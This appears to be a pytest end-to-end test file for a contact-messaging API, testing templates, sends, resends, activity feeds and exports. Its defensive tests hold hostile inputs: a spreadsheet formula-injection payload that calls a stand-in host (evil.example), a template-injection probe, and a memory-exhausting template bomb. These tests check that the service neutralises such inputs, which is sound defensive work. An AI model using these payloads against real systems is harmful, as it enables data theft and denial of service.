"""Templates, sends, resends and the activity feed through the HTTP API."""

from __future__ import annotations

import csv
import io
import json
import uuid

import pytest

from tests.e2e.conftest import problem_code


def _ready_contact(api, domain, **fields):
    ann = api.contact(domain, email="ann@example.com", firstName="Ann", variables={"city": "Tallinn"}, **fields)
    api.subscribe(domain, ann["id"], "email")
    return ann


def test_templates_are_drafted_listed_and_approved(api, domain):
    created = api.post(f"/v1/domains/{domain}/templates", json={
        "channel": "email", "name": "Welcome", "subject": "Hi {{ firstName }}", "body": "<p>Hello</p>",
        "bodies": {"et": "<p>Tere</p>"}})
    assert created.status_code == 201, created.text
    template = created.json()
    assert template["status"] == "draft" and template["bodies"] == {"et": "<p>Tere</p>"}
    assert template["position"] == int(created.headers["Profiles-Position"])

    listed = api.get(f"/v1/domains/{domain}/templates").json()["items"]
    assert [t["id"] for t in listed] == [template["id"]]
    approved = api.post(f"/v1/domains/{domain}/templates/{template['id']}/approve")
    assert approved.status_code == 200 and approved.json()["status"] == "approved"
    missing = api.post(f"/v1/domains/{domain}/templates/{uuid.uuid4()}/approve")
    assert missing.status_code == 404 and problem_code(missing) == "template_not_found"


@pytest.mark.parametrize(("body", "code"), [
    ({"channel": "webPush", "name": "n", "body": "b"}, "channel_not_sendable"),
    ({"channel": "email", "name": "n", "body": "{{ x.__class__ }}{% for %}"}, "invalid_template"),
    ({"channel": "email", "name": "", "body": "b"}, "validation_error"),
])
def test_bad_templates_are_refused(api, domain, body, code):
    response = api.post(f"/v1/domains/{domain}/templates", json=body)
    assert response.status_code == 422 and problem_code(response) == code


def test_send_and_resend_appear_in_the_feed(api, domain):
    ann = _ready_contact(api, domain)
    template = api.approved_template(domain)

    sent = api.post(f"/v1/domains/{domain}/contacts/{ann['id']}/messages",
                    json={"channel": "email", "templateId": template["id"]})
    assert sent.status_code == 202, sent.text
    assert sent.json()["position"] == int(sent.headers["Profiles-Position"])
    message_id = sent.json()["messageId"]

    feed = api.get(f"/v1/domains/{domain}/contacts/{ann['id']}/activity").json()["items"]
    entry = next(e for e in feed if e["type"] == "message.sent")
    assert entry["data"]["messageId"] == message_id

    resent = api.post(f"/v1/domains/{domain}/contacts/{ann['id']}/activity/{entry['id']}/resend")
    assert resent.status_code == 202, resent.text
    assert resent.json()["messageId"] != message_id

    feed = api.get(f"/v1/domains/{domain}/contacts/{ann['id']}/activity").json()["items"]
    assert feed[0]["type"] == "message.resent" and feed[0]["data"]["messageId"] == resent.json()["messageId"]
    detail = api.get(f"/v1/domains/{domain}/contacts/{ann['id']}/activity/{feed[0]['id']}").json()
    assert detail["type"] == "message.resent"
    occurred = [e["occurredAt"] for e in feed]
    assert occurred == sorted(occurred, reverse=True)


def test_send_checks_in_contract_order(api, domain):
    ann = api.contact(domain, email="ann@example.com", phoneNumber="+37255512345")
    draft = api.post(f"/v1/domains/{domain}/templates", json={"channel": "email", "name": "d", "body": "b"}).json()
    sms = api.approved_template(domain, "sms")
    email = api.approved_template(domain, "email")
    send = f"/v1/domains/{domain}/contacts/{ann['id']}/messages"

    def code(contact_path: str, channel: str, template_id: str) -> tuple[int, str]:
        response = api.post(contact_path, json={"channel": channel, "templateId": template_id})
        return response.status_code, problem_code(response)

    assert code(send, "webPush", str(uuid.uuid4())) == (422, "channel_not_sendable")
    assert code(send, "email", sms["id"]) == (422, "template_channel_mismatch")
    assert code(send, "email", str(uuid.uuid4())) == (404, "template_not_found")
    assert code(f"/v1/domains/{domain}/contacts/{uuid.uuid4()}/messages", "email", draft["id"]) == (404, "contact_not_found")
    assert code(send, "email", draft["id"]) == (409, "template_not_approved")
    api.put(f"/v1/domains/{domain}/contacts/{ann['id']}/blacklist/email", json={"reason": "manual"})
    assert code(send, "email", email["id"]) == (409, "blacklisted")
    assert code(send, "sms", sms["id"]) == (409, "not_subscribed")


def test_resend_refuses_what_is_not_a_message_and_a_channel_gone_bad(api, domain):
    ann = _ready_contact(api, domain)
    template = api.approved_template(domain)
    api.post(f"/v1/domains/{domain}/contacts/{ann['id']}/messages", json={"channel": "email", "templateId": template["id"]})
    feed = api.get(f"/v1/domains/{domain}/contacts/{ann['id']}/activity").json()["items"]
    created = next(e for e in feed if e["type"] == "contact.created")
    sent = next(e for e in feed if e["type"] == "message.sent")
    base = f"/v1/domains/{domain}/contacts/{ann['id']}/activity"

    not_message = api.post(f"{base}/{created['id']}/resend")
    assert not_message.status_code == 422 and problem_code(not_message) == "not_a_message"
    missing = api.post(f"{base}/nope/resend")
    assert missing.status_code == 404 and problem_code(missing) == "activity_not_found"
    assert problem_code(api.get(f"{base}/nope")) == "activity_not_found"

    api.put(f"/v1/domains/{domain}/contacts/{ann['id']}/subscriptions/email", json={"status": "unsubscribed", "confirm": True})
    unsubscribed = api.post(f"{base}/{sent['id']}/resend")
    assert unsubscribed.status_code == 409 and problem_code(unsubscribed) == "not_subscribed"
    api.put(f"/v1/domains/{domain}/contacts/{ann['id']}/blacklist/email", json={"reason": "hardBounce"})
    blacklisted = api.post(f"{base}/{sent['id']}/resend")
    assert blacklisted.status_code == 409 and problem_code(blacklisted) == "blacklisted"


def test_feed_filters_by_type_and_refuses_more_than_30_days(api, domain):
    ann = _ready_contact(api, domain)
    base = f"/v1/domains/{domain}/contacts/{ann['id']}/activity"
    only = api.get(base, type="subscription.changed").json()["items"]
    assert only and {e["type"] for e in only} == {"subscription.changed"}
    assert api.get(base, days=1).status_code == 200
    for days in (31, 0, -1, "x"):
        response = api.get(base, days=days)
        assert response.status_code == 422 and problem_code(response) == "validation_error", days
    page = api.get(base, limit=1).json()
    assert len(page["items"]) == 1 and page["nextCursor"]
    rest = api.get(base, limit=1, cursor=page["nextCursor"]).json()["items"]
    assert rest and rest[0]["id"] != page["items"][0]["id"]
    missing = api.get(f"/v1/domains/{domain}/contacts/{uuid.uuid4()}/activity")
    assert missing.status_code == 404 and problem_code(missing) == "contact_not_found"


def test_export_streams_the_complete_history_as_csv_or_ndjson(api, domain):
    ann = _ready_contact(api, domain)
    base = f"/v1/domains/{domain}/contacts/{ann['id']}/activity/export"

    ndjson = api.get(base, format="ndjson")
    assert ndjson.status_code == 200 and ndjson.headers["content-type"].startswith("application/x-ndjson")
    assert ndjson.headers["content-disposition"].startswith("attachment;")
    entries = [json.loads(line) for line in ndjson.text.splitlines()]
    assert [e["type"] for e in entries][:2] == ["contact.created", "subscription.changed"]

    as_csv = api.get(base, format="csv")
    assert as_csv.status_code == 200 and as_csv.headers["content-type"].startswith("text/csv")
    assert 'filename="activity-' in as_csv.headers["content-disposition"]
    rows = list(csv.DictReader(io.StringIO(as_csv.text)))
    assert [r["id"] for r in rows] == [e["id"] for e in entries]
    assert json.loads(rows[0]["data"]) == entries[0]["data"]

    assert api.get(base, format="xml").status_code == 422


def test_the_csv_export_keeps_upstream_text_from_running_as_a_spreadsheet_formula(api, domain):
    ann = _ready_contact(api, domain)
    names = ['=HYPERLINK("http://evil.example/?"&A1,"open")', "+1+2", "-2+3", "@SUM(A1)", "orderPlaced"]
    events = [{"eventId": f"csv-{uuid.uuid4()}", "type": "activity", "occurredAt": "2026-11-01T10:00:00Z",
               "contact": {"email": "ann@example.com"}, "data": {"name": name, "properties": {}}} for name in names]
    accepted = api.post(f"/v1/domains/{domain}/events", json={"events": events})
    assert accepted.status_code == 202 and accepted.json()["rejected"] == [], accepted.text

    base = f"/v1/domains/{domain}/contacts/{ann['id']}/activity/export"
    rows = list(csv.DictReader(io.StringIO(api.get(base, format="csv").text)))
    summaries = [r["summary"] for r in rows if r["type"] == "activity"]
    assert sorted(summaries) == sorted(["'" + name for name in names[:-1]] + ["orderPlaced"])
    exported = [json.loads(line) for line in api.get(base, format="ndjson").text.splitlines()]
    assert sorted(e["summary"] for e in exported if e["type"] == "activity") == sorted(names)  # data, not a sheet


def test_a_template_that_would_exhaust_memory_is_refused_at_send_and_the_service_goes_on(api, domain):
    ann = _ready_contact(api, domain)
    bomb = api.approved_template(domain, body="{{ 'x'.ljust(2000000000) }}")
    refused = api.post(f"/v1/domains/{domain}/contacts/{ann['id']}/messages",
                       json={"channel": "email", "templateId": bomb["id"]})
    assert refused.status_code == 422 and problem_code(refused) == "invalid_template", refused.text
    assert "memory" in refused.json()["detail"]

    fine = api.approved_template(domain)
    sent = api.post(f"/v1/domains/{domain}/contacts/{ann['id']}/messages",
                    json={"channel": "email", "templateId": fine["id"]})
    assert sent.status_code == 202, sent.text


def test_a_send_retried_with_its_idempotency_key_is_sent_once(api, domain):
    ann = _ready_contact(api, domain)
    welcome, other = api.approved_template(domain), api.approved_template(domain, name="Other")
    base = f"/v1/domains/{domain}/contacts/{ann['id']}"

    def send(key: str, template: dict):
        return api.post(f"{base}/messages", json={"channel": "email", "templateId": template["id"]},
                        headers={"Idempotency-Key": key})

    first = send("order-17-confirmation", welcome)
    assert first.status_code == 202 and "Idempotent-Replayed" not in first.headers
    api.put(f"{base}/subscriptions/email", json={"status": "unsubscribed", "confirm": True})
    again = send("order-17-confirmation", welcome)  # a retry after a timeout: it was sent
    assert again.status_code == 202 and again.headers["Idempotent-Replayed"] == "true"
    assert again.json()["messageId"] == first.json()["messageId"]
    assert again.json()["position"] >= first.json()["position"]

    reused = send("order-17-confirmation", other)
    assert reused.status_code == 409 and problem_code(reused) == "idempotency_key_reused"
    refused = send("order-18-confirmation", welcome)  # a new key is a new send, checked as any
    assert refused.status_code == 409 and problem_code(refused) == "not_subscribed"

    api.subscribe(domain, ann["id"], "email")
    entry = next(e for e in api.get(f"{base}/activity", type="message.sent").json()["items"])
    resent = [api.post(f"{base}/activity/{entry['id']}/resend", headers={"Idempotency-Key": "resend-1"})
              for _ in range(2)]
    assert [r.status_code for r in resent] == [202, 202] and resent[0].json() == resent[1].json() | {
        "position": resent[0].json()["position"]}
    assert problem_code(send("resend-1", welcome)) == "idempotency_key_reused"

    feed = api.get(f"{base}/activity", type="message.sent,message.resent").json()["items"]
    assert sorted(e["type"] for e in feed) == ["message.resent", "message.sent"]  # one of each, nothing twice

    blank = send("", welcome)
    assert blank.status_code == 422 and problem_code(blank) == "validation_error"
